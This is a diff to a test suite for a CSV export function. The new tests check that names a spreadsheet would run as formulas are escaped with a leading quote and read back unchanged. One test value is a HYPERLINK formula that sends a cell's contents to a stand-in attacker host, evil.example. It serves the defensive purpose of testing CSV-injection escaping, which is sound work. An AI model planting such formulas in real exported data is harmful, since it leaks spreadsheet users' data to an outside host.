@@ -143,6 +143,38 @@ describe('writing', () => {
     expect(categoriesCsv([])).toBe('\uFEFFnumber,name\r\n');
   });
 
+  it('escapes a name a spreadsheet would run as a formula, with a leading quote', () => {
+    const hostile = [
+      { id: '2', name: '=HYPERLINK("https://evil.example/?leak="&A1,"Dog")' },
+      { id: '3', name: '@SUM(1+1)' },
+    ];
+    expect(categoriesCsv(hostile)).toBe(
+      '\uFEFFnumber,name\r\n' +
+        '2,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Dog"")"\r\n' +
+        '3,"\'@SUM(1+1)"\r\n',
+    );
+  });
+
+  it('reads an escaped name back as it was before the export escaped it', () => {
+    const names = [
+      { id: '2', name: '=HYPERLINK("x")' },
+      { id: '3', name: '+1 Senior' },
+      { id: '4', name: '-Puppy' },
+      { id: '5', name: '@SUM(1+1)' },
+      { id: '6', name: "'=already quoted" },
+      { id: '7', name: "'quoted" },
+      { id: '8', name: "O'Malley" },
+    ];
+    expect(listOf(categoriesCsv(names))).toEqual(names);
+  });
+
+  it('takes the quote off a formula-like name in a CSV made elsewhere, and nothing else', () => {
+    expect(listOf("number,name\n2,'-Senior\n3,'Tiny\n")).toEqual([
+      { id: '2', name: '-Senior' },
+      { id: '3', name: "'Tiny" },
+    ]);
+  });
+
   it('writes JSON with numbers as strings, by number', () => {
     expect(JSON.parse(categoriesJson(list))).toEqual([
       { number: '2', name: 'Dog, large' },
